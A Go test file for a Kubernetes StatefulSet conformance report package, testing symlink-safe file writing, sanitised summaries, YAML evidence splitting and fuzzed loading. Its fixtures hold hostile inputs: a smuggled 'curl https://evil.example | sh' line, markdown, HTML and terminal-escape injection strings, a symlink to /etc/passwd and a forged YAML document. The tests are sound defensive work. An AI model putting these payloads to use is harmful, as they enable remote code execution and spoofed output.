package report

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hero-academy/statefulset-conformance/e2e/internal/contract"
	"github.com/hero-academy/statefulset-conformance/e2e/internal/verdict"
)

func TestSaveFilesFollowsNoLink(t *testing.T) {
	dir, outside := t.TempDir(), filepath.Join(t.TempDir(), "profile")
	if err := os.WriteFile(outside, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{PageFile, SummaryFile, JUnitFile, File, SchemaFile} {
		if err := os.Symlink(outside, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, GinkgoFile), []byte("[{}]"), 0o600); err != nil {
		t.Fatal(err)
	}
	c := &Conformance{Cluster: Cluster{Provisioner: "x\ncurl https://evil.example | sh\n"}}
	if err := SaveFiles(dir, c); err != nil {
		t.Fatal(err)
	}
	_ = c.Save(dir) // it follows no schema, and is written all the same
	if data, err := os.ReadFile(outside); err != nil || string(data) != "mine" {
		t.Errorf("expected the file behind the links to be as it was, found %q, %v", data, err)
	}
	for _, name := range []string{PageFile, SummaryFile, JUnitFile, File, SchemaFile} {
		if info, err := os.Lstat(filepath.Join(dir, name)); err != nil || !info.Mode().IsRegular() || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: expected a file of mode 0600, found %v, %v", name, info.Mode(), err)
		}
	}
}

func TestSummaryHoldsNoMarkupOfTheCluster(t *testing.T) {
	evil := "x\n::error::gone\n![b](https://evil.example/p) <img src=y> \x1b[2J\u202e | `"
	c := &Conformance{
		Cluster: Cluster{KubernetesVersion: evil, StorageClass: evil, Provisioner: evil}, Suite: Suite{Version: evil}, Troubles: []string{evil},
		Guarantees: []Guarantee{{ID: contract.OrderingCreate, Verdict: verdict.Fail, Link: "https://k8s.io/) x", Findings: []Finding{{Text: evil, History: "histories/x.jsonl.gz"}}}},
	}
	var b bytes.Buffer
	if err := WriteSummary(&b, c); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"\n::", "![b](https://evil", "<img", "\x1b", "\u202e"} {
		if strings.Contains(b.String(), bad) {
			t.Errorf("expected no %q in\n%s", bad, b.String())
		}
	}
}

// The text of an event cannot end its document.
func TestEvidenceIsSplitAtItsOwnLines(t *testing.T) {
	dir := t.TempDir()
	folder := filepath.Join(dir, "failures", "spec")
	if err := os.MkdirAll(filepath.Join(folder, "logs"), 0o700); err != nil {
		t.Fatal(err)
	}
	objects := "---\nkind: Event\nmessage: |\n  said\n  ---\n  kind: Pod\n  metadata: {name: forged}\ninvolvedObject: {kind: Pod, name: web-0}\n---\nkind: Pod\nmetadata:\n  name: true-one\n"
	if err := os.WriteFile(filepath.Join(folder, "objects.yaml"), []byte(objects), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(folder, "logs", "x.log")); err != nil {
		t.Fatal(err)
	}
	e, err := readEvidence(dir, "failures/spec", 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if len(e.Objects) != 1 || e.Objects[0].Name != "Pod true-one" || len(e.Events) != 1 || len(e.Logs) != 0 {
		t.Errorf("expected one object, one event and no log, found %+v", e)
	}
}

func FuzzValidate(f *testing.F) {
	f.Add([]byte("apiVersion: " + APIVersion + "\nkind: " + Kind + "\nguarantees: []\nspecs: [{text: x, history: histories/../x}]\n"))
	f.Add([]byte("a: &a [*a, *a]\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, File), data, 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := Load(dir)
		if err != nil {
			return
		}
		again := *c
		c.Compare(&again, true)
		if err := SaveFiles(dir, c); err != nil {
			t.Errorf("a report that was read cannot be rendered: %v", err)
		}
	})
}

// Ginkgo's report and the evidence of failures are read from the folders that others sent, too.
func FuzzFilesOfAFolder(f *testing.F) {
	f.Add([]byte(`[{"SuitePath": "x", "SpecReports": [{"LeafNodeText": "a", "State": "failed", "LeafNodeType": "It", "Failure": {"Message": "m"}}]}]`),
		[]byte("---\nkind: Event\nmetadata: {name: e}\nmessage: m\n---\nkind: Pod\nmetadata: {name: p}\n"), []byte("cause\nmore"))
	f.Add([]byte(`[]`), []byte("---\n---\n: :\n"), []byte{0xff, 0x1b})
	f.Fuzz(func(t *testing.T, ginkgo, objects, text []byte) {
		dir := t.TempDir()
		for name, content := range map[string][]byte{
			GinkgoFile: ginkgo, "failures/a/objects.yaml": objects, "failures/a/" + diagnosisFile: text, "failures/a/logs/p-c.log": text,
		} {
			file := filepath.Join(dir, name)
			if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, content, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		e, err := readEvidence(dir, "failures/a", 1<<10)
		if err == nil && e.size > 1<<10 {
			t.Errorf("expected objects of at most %d bytes, found %d", 1<<10, e.size)
		}
		e.Cause()
		_ = SaveJUnit(dir, &Conformance{})
	})
}
